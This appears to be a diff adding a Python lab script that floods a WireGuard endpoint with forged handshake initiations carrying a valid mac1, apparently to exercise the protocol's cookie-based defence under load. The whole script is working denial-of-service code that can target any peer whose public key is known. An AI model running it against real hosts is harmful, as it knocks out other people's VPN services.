@@ -1,0 +1,50 @@
+"""Handshake initiations by the thousand; a script that runs inside the lab's machines.
+
+    python flood.py ADDRESS PORT PUBLIC_KEY SECONDS
+
+They show a right mac1 and nothing else that is right: who gets many has to ask for a cookie (whitepaper
+§5.3), and each one that is looked into costs a key agreement.
+"""
+
+import base64
+import hashlib
+import os
+import socket
+import sys
+import time
+
+_BURST = 1000
+_PAUSE_S = 0.25
+_INITIATION_BYTES = 148
+
+
+def initiations(public_key: bytes, count: int) -> list[bytes]:
+    """Messages of type 1 with noise, mac1 for the receiver and no mac2 (whitepaper §5.4.2, §5.4.4)."""
+    key = hashlib.blake2s(b"mac1----" + public_key).digest()
+    messages = []
+    for _ in range(count):
+        body = b"\1\0\0\0" + os.urandom(_INITIATION_BYTES - 4 - 32)
+        mac1 = hashlib.blake2s(body, digest_size=16, key=key).digest()
+        messages.append(body + mac1 + bytes(16))
+    return messages
+
+
+def main(address: str, port: str, public_key: str, seconds: str) -> None:
+    """Sends a burst four times a second."""
+    messages = initiations(base64.b64decode(public_key), _BURST)
+    family = socket.AF_INET6 if ":" in address else socket.AF_INET
+    with socket.socket(family, socket.SOCK_DGRAM) as flooding:
+        flooding.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+        print("flooding", flush=True)
+        end = time.monotonic() + float(seconds)
+        while time.monotonic() < end:
+            for message in messages:
+                try:
+                    flooding.sendto(message, (address, int(port)))
+                except OSError:
+                    pass  # its queue is full, or an ICMP error
+            time.sleep(_PAUSE_S)
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
